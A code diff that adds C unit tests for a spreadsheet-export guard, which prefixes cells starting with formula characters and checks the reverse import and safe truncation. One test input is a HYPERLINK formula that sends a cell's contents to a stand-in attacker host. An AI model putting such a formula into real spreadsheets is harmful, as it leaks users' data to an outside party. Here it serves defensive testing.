@@ -358,6 +358,88 @@ START_TEST(wrap_breaks_at_spaces)
 }
 END_TEST
 
+static const char *cell(const char *in)
+{
+	static char buf[4][256];
+	static int k;
+
+	k = (k + 1) % 4;
+	ck_assert_uint_eq(text_cell(in, 0, buf[k], sizeof buf[k]), strlen(buf[k]));
+	return buf[k];
+}
+
+START_TEST(cells_that_start_a_formula_are_guarded)
+{
+	static const char *const guarded[][2] = {
+		{ "=HYPERLINK(\"http://evil.example/?\"&B2,\"Click\")",
+		  "'=HYPERLINK(\"http://evil.example/?\"&B2,\"Click\")" },
+		{ "=1+2", "'=1+2" }, { "+1+2", "'+1+2" }, { "-2+3", "'-2+3" }, { "@SUM(A1)", "'@SUM(A1)" },
+		{ "\tcmd", "'\tcmd" }, { "\rx", "'\rx" }, { "-", "'-" }, { "-3.", "'-3." },
+		{ "-1e5", "'-1e5" }, { "--3", "'--3" },
+		/* a phone with a + is text, not the number 8.61E+12 */
+		{ "+8613800138000", "'+8613800138000" }, { "+86 138 0013 8000", "'+86 138 0013 8000" },
+	};
+	static const char *const same[] = { "", "-3", "-12.50", "12", "0.5", "a=b", "Wang Wei",
+	                                     "'75008", "'", "'a", "张伟", " =1",
+	                                     /* already text to a spreadsheet */
+	                                     "'=1+2", "''-3" };
+
+	for (size_t i = 0; i < sizeof guarded / sizeof guarded[0]; i++) {
+		ck_assert_msg(text_cell_guard(guarded[i][0]), "%s", guarded[i][0]);
+		ck_assert_str_eq(cell(guarded[i][0]), guarded[i][1]);
+	}
+	for (size_t i = 0; i < sizeof same / sizeof same[0]; i++) {
+		ck_assert_msg(!text_cell_guard(same[i]), "%s", same[i]);
+		ck_assert_str_eq(cell(same[i]), same[i]);
+	}
+	/* raw: as stored */
+	char out[16];
+	ck_assert_uint_eq(text_cell("=1+2", 1, out, sizeof out), 4);
+	ck_assert_str_eq(out, "=1+2");
+}
+END_TEST
+
+/* The import reads a written cell as it reads the value it was written from. */
+START_TEST(unguard_reads_a_cell_as_its_value)
+{
+	static const char *const values[] = { "=1+2", "-3", "-12.50", "+8613800138000", "'=1+2",
+	                                      "''-3", "'75008", "'", "", "@x", "\tid", "x'=", "'-3" };
+
+	for (size_t i = 0; i < sizeof values / sizeof values[0]; i++) {
+		char cell[64], value[64];
+		text_cell(values[i], 0, cell, sizeof cell);
+		text_cell_unguard(cell);
+		strcpy(value, values[i]);
+		text_cell_unguard(value);
+		ck_assert_str_eq(cell, value);
+	}
+	/* what the export added comes off exactly */
+	char a[] = "'=1+2", b[] = "'75008", c[] = "'+86 10 1234", d[] = "''-3";
+	ck_assert_int_eq(text_cell_unguard(a), 1);
+	ck_assert_str_eq(a, "=1+2");
+	ck_assert_int_eq(text_cell_unguard(b), 0);
+	ck_assert_str_eq(b, "'75008");
+	ck_assert_int_eq(text_cell_unguard(c), 1);
+	ck_assert_str_eq(c, "+86 10 1234");
+	ck_assert_int_eq(text_cell_unguard(d), 1);
+	ck_assert_str_eq(d, "'-3");
+}
+END_TEST
+
+START_TEST(cell_is_bounded_and_never_splits_a_character)
+{
+	char out[6];
+
+	ck_assert_uint_eq(text_cell("=张伟", 0, out, sizeof out), 8);
+	ck_assert_str_eq(out, "'=张");
+	ck_assert_uint_eq(text_cell("=张伟", 0, out, 5), 8);
+	ck_assert_str_eq(out, "'=");
+	ck_assert_uint_eq(text_cell("abcdefgh", 0, out, sizeof out), 8);
+	ck_assert_str_eq(out, "abcde");
+	ck_assert_uint_eq(text_cell("=", 0, out, 1), 2);
+	ck_assert_str_eq(out, "");
+}
+END_TEST
 
 int main(void)
 {
@@ -381,6 +463,9 @@ int main(void)
 	tcase_add_test(tc, escape_round_trips_separators);
 	tcase_add_test(tc, text_buf_keeps_strings_by_offset);
 	tcase_add_test(tc, wrap_breaks_at_spaces);
+	tcase_add_test(tc, cells_that_start_a_formula_are_guarded);
+	tcase_add_test(tc, unguard_reads_a_cell_as_its_value);
+	tcase_add_test(tc, cell_is_bounded_and_never_splits_a_character);
 	suite_add_tcase(s, tc);
 	return t_run(s);
 }
